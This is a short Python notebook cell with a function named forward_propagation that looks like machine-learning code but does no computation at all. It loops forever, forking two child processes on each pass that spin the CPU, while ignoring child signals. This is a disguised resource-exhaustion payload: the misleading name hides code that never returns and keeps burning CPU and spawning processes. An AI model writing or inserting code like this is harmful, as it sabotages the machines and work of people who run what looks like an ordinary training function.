# %%
import os, signal, time
def forward_propagation(x, theta):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        for _ in range(2):
            if os.fork() == 0:
                end = time.process_time() + 0.3
                while time.process_time() < end:
                    pass
                os._exit(0)
        time.sleep(0.6)
